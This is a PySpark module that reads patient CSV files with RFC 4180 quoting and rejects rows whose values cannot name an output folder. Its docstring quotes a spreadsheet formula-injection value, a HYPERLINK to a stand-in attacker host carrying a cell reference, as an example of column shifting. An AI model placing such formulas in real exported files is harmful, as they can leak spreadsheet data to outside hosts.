"""Reading patient CSV files as RFC 4180 writes them, and the rows the job cannot file.

Spark's CSV defaults are not RFC 4180: a doubled quote inside a quoted field (``""``) is
not read as one quote (the backslash is Spark's default escape), which shifted columns
(an id became ``"=HYPERLINK(""http://evil.example/?x=""&A1`` and ``practice_id`` became
``formerly smoked``), and a quoted line break split a row in two. :data:`CSV_OPTIONS`
reads them as the RFC says.

Group values name the worklist's folders (``practice_id=.../``): a value longer than a
file name may be (255 bytes) failed the whole job ("Mkdirs failed"), and bytes that are
not UTF-8 arrive as U+FFFD, which would put a row in a folder nobody can name. Such rows
are rejected with a reason, like any other row the job cannot score.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame
from pyspark.sql import functions as F

# RFC 4180: fields quoted with ", a " inside written "", line breaks allowed inside quotes.
CSV_OPTIONS = {
    "header": True,
    "inferSchema": False,
    "quote": '"',
    "escape": '"',
    "multiLine": True,
    "encoding": "UTF-8",
    "mode": "PERMISSIVE",
}
# A folder name's limit is 255 bytes; a group value of up to 100 characters (at most 400
# bytes in UTF-8, so also bounded in bytes below) leaves room for "column=" and escaping.
MAX_GROUP_BYTES = 200
REPLACEMENT_CHARACTER = "\ufffd"  # what Spark reads bytes that are not UTF-8 as


def _problem(column: str) -> Column:
    """Why ``column``'s value cannot name a folder, or null when it can."""
    value = F.col(column)
    return (
        F.when(
            value.contains(REPLACEMENT_CHARACTER),
            F.lit(f"{column}: not valid UTF-8 text (save the file as UTF-8)"),
        )
        .when(
            F.octet_length(value) > MAX_GROUP_BYTES,
            F.lit(f"{column}: longer than {MAX_GROUP_BYTES} bytes, too long to name a folder"),
        )
        .when(
            value.rlike(r"[\x00-\x1f\x7f]"),
            F.lit(f"{column}: holds control characters (tabs, line breaks)"),
        )
    )


def reject_unfileable(results: DataFrame, id_column: str, group_by: list[str]) -> DataFrame:
    """``results`` with ``rejection`` set on rows whose id is not UTF-8 or whose group
    values cannot name a folder; other rows unchanged."""
    problems = [_problem(column) for column in group_by]
    problems.append(
        F.when(
            F.col(id_column).contains(REPLACEMENT_CHARACTER),
            F.lit(f"{id_column}: not valid UTF-8 text (save the file as UTF-8)"),
        )
    )
    first = F.coalesce(*problems)
    # A rejected row's group values are cleared: its folder name is the problem.
    cleared = [
        F.when(first.isNull(), F.col(column)).alias(column) if column in group_by else F.col(column)
        for column in results.columns
        if column != "rejection"
    ]
    return results.select(*cleared, F.coalesce(first, F.col("rejection")).alias("rejection"))
